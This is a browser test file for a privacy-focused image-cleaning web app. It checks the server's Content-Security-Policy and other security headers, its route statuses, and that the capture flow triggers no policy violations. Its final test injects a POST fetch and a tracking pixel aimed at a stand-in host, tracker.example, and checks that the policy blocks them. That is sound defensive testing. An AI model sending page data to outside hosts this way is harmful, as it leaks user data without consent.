// The privacy promise, enforced by the browser: the production server's headers, the policy in
// the built HTML, zero policy violations through the whole capture and photo flow, and a
// request towards an outside host blocked by the policy itself.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { PNG } from 'pngjs';
import { baseURL, launchBrowser, openTrackedPage } from './support/browser.ts';
import { fakeCameraFlags, trackingScript, writeKnownY4m } from './support/fake-camera.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser(fakeCameraFlags(writeKnownY4m()));
});
afterAll(async () => {
  await browser?.close();
});

const RECORD_VIOLATIONS = `(() => {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.__violations.push(event.violatedDirective + ' ' + event.blockedURI);
  });
})();`;

const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

describe('headers and statuses of the production server', () => {
  test('every response carries the security headers', async () => {
    const page = await fetch(baseURL() + '/');
    const html = await page.text();
    const asset = html.match(/src="(\/assets\/[^"]+\.js)"/)?.[1];
    expect(asset).toBeTruthy();
    const assetResponse = await fetch(baseURL() + asset);
    const missing = await fetch(baseURL() + '/nowhere');
    for (const response of [page, assetResponse, missing]) {
      const csp = response.headers.get('content-security-policy') ?? '';
      for (const directive of [
        "default-src 'self'",
        // WebAssembly compiles (the cleaners' kernels); nothing else is evaluated.
        "script-src 'self' 'wasm-unsafe-eval';",
        "style-src 'self'",
        "connect-src 'self'",
        "worker-src 'self' blob:",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
      ]) {
        expect(csp).toContain(directive);
      }
      expect(csp).toMatch(
        /img-src 'self' data: blob: https:\/\/cdn\.buymeacoffee\.com https:\/\/storage\.ko-fi\.com/,
      );
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
      expect(response.headers.get('permissions-policy')).toBe(
        'camera=(self), microphone=(), geolocation=()',
      );
      expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin');
    }
    expect(page.headers.get('cache-control')).toBe('no-cache');
    expect(assetResponse.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
  });

  test('the five routes answer 200, anything else 404 with the app', async () => {
    for (const path of ['/', '/instructions', '/faq', '/about', '/privacy']) {
      expect((await fetch(baseURL() + path)).status).toBe(200);
    }
    // The pre-rendered error page is no route: /404 answers 404 like any unknown path.
    for (const path of ['/nowhere', '/about/deeper', '/assets/missing.js', '/404', '/404/']) {
      const response = await fetch(baseURL() + path);
      expect(response.status, path).toBe(404);
      const html = await response.text();
      expect(html).toContain('<div id="root">');
      expect(html, path).toContain('404 Not Found');
    }
    expect((await fetch(baseURL() + '/robots.txt')).status).toBe(200);
    expect((await fetch(baseURL() + '/favicon.svg')).status).toBe(200);
    // Hosts that serve <page>/index.html answer the trailing-slash form too.
    expect((await fetch(baseURL() + '/about/')).status).toBe(200);
    // A malformed escape is refused, and the server keeps answering.
    const malformed = await fetch(baseURL() + '/%E0%A4%A');
    expect(malformed.status).toBe(400);
    expect(malformed.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect((await fetch(baseURL() + '/')).status).toBe(200);
  });

  test('the built HTML carries the policy as a meta tag, without frame-ancestors', async () => {
    const html = readFileSync('dist/index.html', 'utf8');
    const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
    expect(meta).toBeTruthy();
    expect(meta!.replaceAll('&#39;', "'")).toContain("connect-src 'self'");
    expect(meta).not.toContain('frame-ancestors');
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/\sstyle="/);
    // The charset comes first (it must sit in the first 1024 bytes), then the policy.
    expect(html.indexOf('<meta charset')).toBeLessThan(html.indexOf('Content-Security-Policy'));
    // Every pre-rendered page, the 404 page included, carries the same policy.
    for (const page of ['instructions', 'faq', 'about', 'privacy', '404']) {
      const other = readFileSync(`dist/${page}/index.html`, 'utf8');
      expect(other, page).toContain(`content="${meta}"`);
      expect(other, page).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    }
  });
});

test('the whole capture and photo flow runs with zero policy violations', async () => {
  const tracked = await openTrackedPage(browser, {
    acceptDownloads: true,
    initScripts: [RECORD_VIOLATIONS, trackingScript()],
  });
  const { page } = tracked;
  for (const path of ['/instructions', '/faq', '/about', '/privacy', '/nowhere', '/']) {
    await page.goto(baseURL() + path);
    await page.locator('h1').waitFor();
  }
  const button = (name: string) => page.getByRole('button', { name, exact: true });
  await button('Start').click();
  await button('Capture').waitFor();
  await expect.poll(() => button('Capture').isEnabled()).toBe(true);
  await page.waitForFunction(() => (document.querySelector('video')?.videoWidth ?? 0) > 0);
  await button('Capture').click();
  await button('Clean').click();
  await page.getByTestId('preview').locator('img[data-kind="cleaned"]').waitFor();
  await Promise.all([page.waitForEvent('download'), button('Save PNG').click()]);
  await button('Stop').click();

  const png = new PNG({ width: 64, height: 32 });
  png.data.fill(255);
  await page
    .getByLabel('Open a photo')
    .setInputFiles({ name: 'p.png', mimeType: 'image/png', buffer: PNG.sync.write(png) });
  // The crop step positions its box through the CSSOM, which the policy allows.
  await page.getByTestId('crop-box').press('Shift+ArrowLeft');
  await button('Use this area').click();
  await page.getByTestId('preview').locator('img[data-kind="cleaned"]').waitFor();

  expect(await violations(page)).toEqual([]);
  expect(tracked.blocked).toEqual([]);
  expect(tracked.pageErrors).toEqual([]);
  await tracked.context.close();
});

test('a request injected towards an outside host is blocked by the policy', async () => {
  const tracked = await openTrackedPage(browser, { initScripts: [RECORD_VIOLATIONS] });
  const { page } = tracked;
  await page.goto(baseURL() + '/');
  await page.locator('h1').waitFor();
  const fetched = await page.evaluate(() =>
    fetch('https://tracker.example/collect', { method: 'POST', body: 'signature' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(fetched).toBe('blocked');
  await page.evaluate(() => {
    const img = document.createElement('img');
    img.src = 'https://tracker.example/pixel.png';
    document.body.append(img);
  });
  // Each is reported once per policy in force (the header's and the meta tag's).
  await expect
    .poll(async () => [...new Set(await violations(page))])
    .toEqual([
      'connect-src https://tracker.example/collect',
      'img-src https://tracker.example/pixel.png',
    ]);
  // The policy stopped both before the network: the route that takes every request leaving the
  // origin never saw them (the page's request events do list the attempts).
  expect(tracked.blocked.some((url) => url.includes('tracker.example'))).toBe(false);
  await tracked.context.close();
});
